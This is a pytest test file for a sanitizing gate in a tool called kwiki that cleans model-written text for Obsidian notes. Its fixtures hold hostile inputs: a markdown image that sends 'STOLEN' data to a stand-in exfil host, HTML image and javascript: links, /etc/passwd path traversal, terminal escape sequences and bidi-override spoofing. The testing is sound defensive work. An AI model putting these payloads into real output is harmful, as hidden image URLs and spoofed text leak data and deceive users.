"""The gate for model text, field by field: each case is a string a model wrote in a measured run (issue 9, 15)."""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
import time

import pytest

from kwiki import gate
from kwiki.contradictions import findings_from, register_text, render_callout
from kwiki.notes import Claim, Mention, SourceNote, bounded, mentions_from_data
from kwiki.pages import LinkTo, source_body, source_frontmatter
from kwiki.resolve import acronym_match, normalize_name, resolve
from kwiki.state import ContradictionRecord

EXFIL = "![y](https://exfil.example/p.png?d=STOLEN)"
PAGES = {"llm-os": "llm-os", "llm os": "llm-os", "llm operating system": "llm-os"}


def _resolve(target: str) -> str | None:
    return PAGES.get(target.casefold())


def _note(**fields: object) -> SourceNote:
    base: dict[str, object] = {
        "path": "a.md",
        "title": "A note",
        "date": "",
        "language": "en",
        "summary": "",
        "tags": (),
        "claims": (),
        "mentions": (),
    }
    return SourceNote(**{**base, **fields})  # type: ignore[arg-type]


def _lookup(target: str) -> LinkTo | None:
    slug = _resolve(target)
    return LinkTo(slug, "LLM OS") if slug else None


@pytest.mark.parametrize(
    "text",
    [
        f"Title {EXFIL}",
        "Title <img src=https://exfil.example/i.png>",
        '<a href="javascript:alert(1)">Title</a>',
        "Title https://exfil.example/x",
        "[[../../etc/passwd]] Title",
        "# Title\n---\nfoo: bar",
        "> [!warning] Title",
        "Title </untrusted_source id=abc>",
        "Title <kwiki_data id=0>",
        "Title %% comment",
    ],
)
def test_one_line_fields_carry_no_url_image_html_link_or_structure(text: str) -> None:
    clean = gate.title(text)
    assert "Title" in clean and "\n" not in clean
    assert not any(bad in clean for bad in ("http", "<", "[[", "![", "[!", "%%", "untrusted", "kwiki_data"))
    assert not clean.startswith(("#", ">"))


def test_every_one_line_field_is_bounded() -> None:
    assert len(gate.title("word " * 4000)) <= gate.MAX_TITLE
    assert len(gate.line("word " * 4000)) <= gate.MAX_LINE
    assert gate.inline("word " * 4000, None, None).count("word") * 5 <= gate.MAX_DESCRIPTION


def test_tags_are_bounded_in_length_and_number() -> None:
    sentence = "a whole sentence about many things that should never have been a single tag at all"
    tags = gate.tags([sentence, "t" * 300, *[f"tag {i}" for i in range(20)], "#Good/Tag"])
    assert sentence.replace(" ", "-") not in tags and "t" * 300 not in tags
    assert len(tags) == gate.MAX_TAGS and all(len(t) <= gate.MAX_TAG for t in tags)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2026-11-03", "2026-11-03"),
        ("2026-11-3", ""),
        ("2026-02-30", ""),
        ("yyyy-mm-dd", ""),
        ("3 Nov 2026", ""),
        ("2999-12-31", ""),  # from the future: it would be the newest source, and settle every contradiction
        (dt.date.today().isoformat(), dt.date.today().isoformat()),
    ],
)
def test_dates_that_are_not_iso_are_dropped(value: str, expected: str) -> None:
    assert gate.date(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("en", "en"),
        ("DE", "de"),
        ("pt-BR", "pt"),
        ("en_US", "en"),
        ("deedbababy_ru", ""),
        ("english", ""),
        ("en\n---\nfoo: bar", ""),
        ("xx", ""),
        ("<b>en</b>", ""),
    ],
)
def test_language_is_an_iso_639_1_code_or_dropped(value: str, expected: str) -> None:
    assert gate.language(value) == expected


@pytest.mark.parametrize(
    "junk",
    [
        "it",
        "the",
        "you",
        "no",
        "yyyy",
        "",
        "  ",
        "../../etc/passwd",
        "/etc/passwd",
        "a/b/c",
        "C:\\Windows",
        "2024",
        "[[]]",
        "Untitled",
    ],
)
def test_junk_never_names_a_page(junk: str) -> None:
    assert not gate.usable_name(junk)
    assert gate.name(junk) == ""


@pytest.mark.parametrize("name", ["TCP/IP", "C", "R", "LLM OS", "Zettelkasten", "知識管理", "GPT-4"])
def test_real_names_are_usable(name: str) -> None:
    assert gate.usable_name(name) and gate.name(name) == name


def test_prose_resolves_links_as_knowledge_pages_do() -> None:
    text = gate.prose("See [[LLM OS]], [[llm-os]] and [[Nothing Here]].", _resolve, [])
    assert text == "See [[llm-os|LLM OS]], [[llm-os]] and Nothing Here."


def test_prose_cannot_add_sections_fences_or_callouts() -> None:
    text = "Intro.\n## Layout of things\n## Frontmatter\n---\ntitle: x\n---\n> [!warning] Boo\n```\nopen"
    clean = gate.prose(text, _resolve, [])
    lines = clean.split("\n")
    assert not any(x.startswith(("#", ">", "```")) or x.strip() == "---" for x in lines)
    assert "Layout of things" in clean and "[!" not in clean


def test_prose_keeps_source_urls_and_turns_source_images_into_links() -> None:
    source = "See https://example.org/a and ![fig](https://example.org/f.png)"
    text = gate.prose("Read https://example.org/a, ![fig](https://example.org/f.png) and " + EXFIL, None, [source])
    assert "https://example.org/a" in text and "[fig](https://example.org/f.png)" in text
    assert "![" not in text and "exfil" not in text
    assert "![fig](https://example.org/f.png)" in gate.prose(
        "![fig](https://example.org/f.png)", None, [source], images=True
    )


# every kind of field a model writes, each as the one-argument function a test calls
FIELDS = [
    gate.line,
    gate.title,
    gate.name,
    lambda s: gate.prose(s, None, []),
    lambda s: gate.inline(s, None, []),
    lambda s: gate.body(s, _resolve, []),
]


@pytest.mark.parametrize("field", FIELDS)
def test_no_terminal_control_character_survives_any_field(field: object) -> None:
    """ESC sequences in a model's string would recolour, retitle or clear the terminal that prints it."""
    for hostile in ("Plain\x1bc name", "Red \x1b[31mtext\x1b[0m", "Title\x1b]0;owned\x07", "Bell\x07 del\x7f c1\x9b"):
        clean = field(hostile)  # type: ignore[operator]
        assert not any((ord(ch) < 32 and ch not in "\t\n") or 0x7F <= ord(ch) <= 0x9F for ch in clean), repr(clean)
    assert gate.prose("tab\tand\nnewline", None, []) == "tab\tand\nnewline"


@pytest.mark.parametrize("field", FIELDS)
def test_no_bidi_override_or_line_separator_survives_any_field(field: object) -> None:
    """A bidi override, embedding or isolate reorders what follows it on screen: `Invoice\u202efdp.exe` shows as
    `Invoiceexe.pdf`, in Obsidian and in the terminal (Trojan Source). A model, or a source aimed at it, could make a
    title, a claim or a link say what it does not. A line separator is a line break to some editors, not to Markdown."""
    for hostile in (
        "Invoice\u202efdp.exe",
        "a\u202ab\u202c c\u202dd",
        "x\u2066y\u2067z\u2068w\u2069",
        "one\u2028two\u2029three",
    ):
        clean = field(hostile)  # type: ignore[operator]
        assert not any(ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029" for ch in clean), (
            repr(clean)
        )
    assert gate.title("Invoice\u202efdp.exe") == "Invoicefdp.exe"
    # marks that only set direction stay: Arabic and Hebrew text uses them, and they reorder nothing by themselves
    assert gate.prose("\u05e9\u05dc\u05d5\u05dd\u200f (2026)", None, []) == "\u05e9\u05dc\u05d5\u05dd\u200f (2026)"


def test_invisible_characters_neither_split_a_name_nor_fail_a_quote() -> None:
    """A soft hyphen (HTML `&shy;`, common on German sites and in PDF text), a zero-width space, a word joiner or a
    byte-order mark is invisible: `Zettel\u00adkasten` looks like Zettelkasten, so it must be the same page (not a
    second one, `zettel-kasten`), and a quote the model copied without it is still verbatim."""
    for invisible in ("\u00ad", "\u200b", "\u2060", "\ufeff"):
        name = f"Zettel{invisible}kasten"
        assert normalize_name(name) == normalize_name("Zettelkasten")
        assert gate.title(name) == gate.name(name) == "Zettelkasten"
        assert gate.prose(f"The {name} method.", None, []) == "The Zettelkasten method."
        assert gate.quote_occurs("the Zettelkasten method works", gate.normalize_ws(f"so the {name} method works"))
        assert gate.quote_occurs(f"the {name} method works", gate.normalize_ws("so the Zettelkasten method works"))
    # joiners that shape scripts and emoji stay: Persian and Indic text need them
    persian = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"  # "I want", with a zero-width non-joiner
    assert gate.title(persian) == persian


def test_page_bodies_keep_headings_but_close_open_fences_and_drop_html() -> None:
    body = gate.body("Intro <script>x()</script>\n# Big\n## Part\n```\ncode", _resolve, [])
    assert "<script" not in body and "## Big" in body and "## Part" in body
    assert body.count("```") == 2


def test_source_pages_resolve_every_model_link() -> None:
    """316 of 496 links were unresolved, all on source pages: the summary, claims and descriptions went unchecked."""
    note = _note(
        summary="About [[LLM OS]] and [[Nowhere]].",
        claims=(Claim("LLM OS", "The [[LLM operating system]] runs [[Ghost Page]].", ""),),
    )
    body = source_body(note, "text", [LinkTo("llm-os", "LLM OS", "An [[Imaginary]] idea")], [], [], _lookup)
    assert "[[llm-os|LLM OS]]" in body and "[[llm-os|LLM operating system]]" in body
    assert "[[Nowhere]]" not in body and "[[Ghost Page]]" not in body and "[[Imaginary]]" not in body


def test_source_page_title_and_language_are_gated() -> None:
    note = _note(title=f"../../x {EXFIL} <img src=x>", language="en\n---\nfoo: bar", date="2026-11-3")
    body = source_body(note, "", [], [], [])
    assert "exfil" not in body and "<img" not in body and "foo: bar" not in body and "2026-11-3" not in body
    meta = source_frontmatter(note)
    assert "exfil" not in str(meta["title"]) and "date" not in meta


def test_a_junk_title_falls_back_to_the_file_name() -> None:
    for title in ("it", "../../etc/passwd", "yyyy", "", "word " * 500):
        assert bounded(_note(path="notes/llm_os-2024.md", title=title)).title == "llm os 2024"


def test_extracted_mentions_are_capped_before_state() -> None:
    huge = " ".join(f"w{i}" for i in range(20_000))
    items = [
        {
            "name": n,
            "type": "entity",
            "aliases": [huge, "[[x]]", *[f"alias {i}" for i in range(50)]],
            "description": "d " * 5000,
            "central": True,
        }
        for n in ("Cursor", "it", "../../etc/passwd", huge)
    ]
    mentions = mentions_from_data(items)
    assert [m.name for m in mentions] == ["Cursor"]
    assert len(mentions[0].aliases) == gate.MAX_ALIASES and all(len(a) <= gate.MAX_ALIAS for a in mentions[0].aliases)
    assert len(mentions[0].description) <= gate.MAX_DESCRIPTION


def test_stored_notes_are_bounded_when_read_back() -> None:
    """A note stored before the caps (a 20,000-word alias) must not cost every later run again."""
    huge = " ".join(f"w{i}" for i in range(20_000))
    note = _note(tags=("t" * 300,), mentions=(Mention("Cursor", "entity", (huge,), huge, True),))
    stored = {k: v for k, v in json.loads(note.to_json()).items() if k != "gate"}  # as an older kwiki stored it
    back = SourceNote.from_json(json.dumps(stored))
    assert back.tags == () and back.mentions[0].aliases == () and len(back.to_json()) < 2_000


def test_acronyms_still_match() -> None:
    assert acronym_match("llm os", "llm operating system")
    assert acronym_match("nlp", "natural language processing")
    assert not acronym_match("llm os", "llm open source thing")


def test_name_matching_is_bounded_for_a_pathological_name() -> None:
    """Quadratic before: 1.5 s for a 4,000-word alias, ~37 s per pair at 20,000 words."""
    huge = " ".join(f"lorem{i % 97}" for i in range(20_000))
    mentions = (
        Mention("Large language model", "concept", ("llm", huge), "", True),
        *(Mention(f"Layer {i} lattice", "concept", (), "", True) for i in range(10)),
    )
    started = time.perf_counter()
    assert not acronym_match("l " + huge, "large language " + huge)
    clusters = resolve({"a.md": _note(mentions=mentions)})
    assert time.perf_counter() - started < 0.5
    assert len(clusters) == 11


def test_contradiction_text_is_gated_when_found_and_when_rendered() -> None:
    text = f"[[src-a]] says x, [[src-b]] says y. <img src=x> {EXFIL} [[Ghost]]\n## Heading"
    found = findings_from("concepts/x.md", [text], {"src-a": "a.md", "src-b": "b.md"}, _lookup)
    assert len(found) == 1 and "<img" not in found[0].text and "exfil" not in found[0].text
    assert "[[Ghost]]" not in found[0].text and "\n" not in found[0].text
    record = ContradictionRecord(
        "id",
        "concepts/x.md",
        "sources/src-a.md",
        "sources/src-b.md",
        "a.md",
        "b.md",
        "[[src-a]] vs [[Ghost]] <b>bold</b>",
        "",
        "open",
        "",
    )
    callout = render_callout(record)
    assert "[[src-a]] vs Ghost bold" in callout and "<b>" not in register_text([record])


def test_url_filter_alone_still_drops_html_images() -> None:
    """Query answers use the URL filter directly: an `<img>` must not survive it."""
    text = gate.strip_foreign_urls("a <img src=https://exfil.example/x.png> b\n<IMG SRC=y\nnext", [])
    assert "<img" not in text.lower() and "next" in text


def test_aliases_differing_only_in_case_come_out_the_same_in_every_process() -> None:
    """Set order follows PYTHONHASHSEED: pages and bases used to differ between two runs of the same ingest."""
    script = (
        "from kwiki.notes import Mention, SourceNote\n"
        "from kwiki.resolve import resolve\n"
        "ms = [Mention('Zettelkasten', 'concept', ('slip-box', 'Slip-box', 'slip box', 'Slip Box'), '', True)]\n"
        "notes = {f'{i}.md': SourceNote(f'{i}.md', 'T', '', 'en', 'S', (), (), tuple(ms)) for i in range(2)}\n"
        "print(resolve(notes)[0].aliases)\n"
    )
    runs = {
        subprocess.run(
            [sys.executable, "-c", script], env={**os.environ, "PYTHONHASHSEED": seed}, capture_output=True, text=True
        ).stdout
        for seed in ("0", "1", "2", "3", "4", "5")
    }
    assert len(runs) == 1 and "slip" in runs.pop().casefold()


def test_a_title_ending_in_a_backslash_cannot_escape_the_end_of_its_link() -> None:
    """`[[windows-tips\\|Windows tips \\]]` in index.md's table: the backslash escaped the closing brackets."""
    assert gate.display_text("Windows tips \\") == "Windows tips"
    assert gate.display_text("C:\\ drive \\\\") == "C:\\ drive"


@pytest.mark.parametrize("field", FIELDS)
def test_no_field_leaves_a_math_block_open(field: object) -> None:
    """An odd `$$` opens a block of math that nothing closes: Obsidian renders the rest of the page as math. A
    field's own `$$` pairs stay (balanced); the one left over shows as dollars."""
    for hostile in ("Price $$ 5", "$$x$$ then $$ open", "a $$$ b"):
        clean = field(hostile)  # type: ignore[operator]
        assert clean.replace("\\$", "").count("$$") % 2 == 0, repr(clean)
    assert gate.prose("Euler: $$e^{i\\pi} + 1 = 0$$", None, []) == "Euler: $$e^{i\\pi} + 1 = 0$$"


def test_code_is_left_alone_by_the_checks_that_read_lines() -> None:
    """Found by a review of the day's fixes: they read every line, code too. `echo $$` got backslashes, log lines
    like `[INFO]: started` vanished as link definitions, a `# comment` in code became `## comment`."""
    code = "```sh\necho $$\n[INFO]: server started\n# a comment\n```"
    assert gate.body(f"Text.\n\n{code}", _resolve, []) == f"Text.\n\n{code}"
    assert gate.prose("Run `echo $$` to print the shell's PID.", None, []) == "Run `echo $$` to print the shell's PID."
    assert gate.line("In a Makefile write `$$HOME`") == "In a Makefile write `$$HOME`"
    for text in ("[INFO]: the server logs this at start.", "[1]: see below for details."):
        assert gate.prose(text, None, ["x"]) == text and gate.line(text) == text
    assert "exfil" not in gate.prose("![r][p]\n\n[p]: https:exfil.example/p.png", None, ["x"])
    assert "exfil" not in gate.prose("![r][p]\n\n[p]: //exfil.example/p.png", None, ["x"])
